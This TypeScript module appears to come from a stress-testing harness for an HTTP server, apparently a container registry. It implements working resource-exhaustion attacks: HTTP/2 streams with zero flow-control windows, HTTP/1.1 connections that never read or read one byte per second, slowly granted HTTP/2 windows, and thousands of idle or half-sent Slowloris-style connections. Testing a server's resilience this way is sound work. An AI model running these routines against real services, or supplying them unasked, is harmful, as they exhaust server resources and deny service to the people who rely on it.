import { requestFor } from '../raw-http1.ts'
import { RawHttp2 } from '../raw-http2.ts'
import { RawSocket } from '../raw-socket.ts'
import { type AttackTarget, type HoldOptions, hold, type Report, repeat } from './attack.ts'

const AT_ONCE = 32

type Wanted = 'blob' | 'manifest'

/** Streams whose windows never open, so that no byte of a body can be sent. */
export async function stallStreams(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number; streams?: number; window?: number },
): Promise<Report> {
  const { connections = 1, streams = 252, window = 0, wanted, signal } = options
  const clients: RawHttp2[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await RawHttp2.open(target, { window })
      clients.push(client)
      for (let i = 0; i < streams; i += 1) client.get(target[wanted])
      await client.settled()
    })
    await hold(options)
    const received = clients.reduce((sum, { socket }) => sum + socket.received, 0)
    return { connections: clients.length, failed, received }
  } finally {
    for (const { socket } of clients) socket.close()
  }
}

/** Connections of HTTP/1.1 that send a request and read nothing of the answer. */
export async function stallConnections(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number },
): Promise<Report> {
  const { connections = 120, wanted, signal } = options
  const sockets: RawSocket[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const socket = await RawSocket.dial(target, 'http/1.1')
      sockets.push(socket)
      await socket.send(requestFor(target[wanted]))
    })
    await hold(options)
    return { connections: sockets.length, failed }
  } finally {
    for (const socket of sockets) socket.close()
  }
}

/** Connections of HTTP/1.1 that read so slowly: one byte a second unless told otherwise. */
export async function readSlowly(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number; bytes?: number; everyMs?: number },
): Promise<Report> {
  const { connections = 300, bytes = 1, everyMs = 1000, wanted, signal } = options
  const sockets: RawSocket[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const socket = await RawSocket.dial(target, 'http/1.1')
      sockets.push(socket)
      await socket.send(requestFor(target[wanted]))
      socket.readSlowly(bytes, everyMs)
    })
    await hold(options)
    const received = sockets.reduce((sum, socket) => sum + socket.received, 0)
    return { connections: sockets.length, failed, received }
  } finally {
    for (const socket of sockets) socket.close()
  }
}

/** The same over HTTP/2: a window that is opened so far each time. */
export async function grantSlowly(
  target: AttackTarget,
  options: HoldOptions & { wanted: Wanted; connections?: number; bytes?: number; everyMs?: number },
): Promise<Report> {
  const { connections = 32, bytes = 1, everyMs = 1000, wanted, signal } = options
  const clients: RawHttp2[] = []
  const timers: NodeJS.Timeout[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await RawHttp2.open(target, { window: 0 })
      clients.push(client)
      const stream = client.get(target[wanted])
      timers.push(setInterval(() => void client.grant(stream, bytes), everyMs))
    })
    await hold(options)
    const received = clients.reduce((sum, { dataBytes }) => sum + dataBytes, 0)
    return { connections: clients.length, failed, received }
  } finally {
    for (const timer of timers) clearInterval(timer)
    for (const { socket } of clients) socket.close()
  }
}

/** `silent` sends nothing, `half` a part of a request, `kept` a whole one; `preface` and `settings` begin with HTTP/2. */
export type Idle = 'silent' | 'half' | 'kept' | 'preface' | 'settings'

/** Connections that are there and do nothing. */
export async function idleConnections(
  target: AttackTarget,
  options: HoldOptions & { idle: Idle; connections?: number },
): Promise<Report> {
  const { connections = 4096, idle, signal } = options
  const sockets: RawSocket[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      if (idle === 'settings') {
        sockets.push((await RawHttp2.open(target)).socket)
        return
      }
      const socket = await RawSocket.dial(target, idle === 'preface' ? 'h2' : 'http/1.1')
      sockets.push(socket)
      await beginTo(socket, idle)
    })
    await hold(options)
    const open = sockets.filter((socket) => !socket.isOver).length
    return { connections: sockets.length, failed, open }
  } finally {
    for (const socket of sockets) socket.close()
  }
}

async function beginTo(socket: RawSocket, idle: Exclude<Idle, 'settings'>): Promise<void> {
  const answered = new Promise<void>((resolve) => socket.onBytes(() => resolve()))
  socket.readAll()
  if (idle === 'half') await socket.send('GET /v2/ HTTP/1.1\r\nHost: x\r\nX-')
  if (idle === 'preface') await socket.send('PRI * HTTP/2.0\r\n\r\nSM')
  if (idle !== 'kept') return
  await socket.send(requestFor('/v2/'))
  await Promise.race([answered, socket.ended])
}
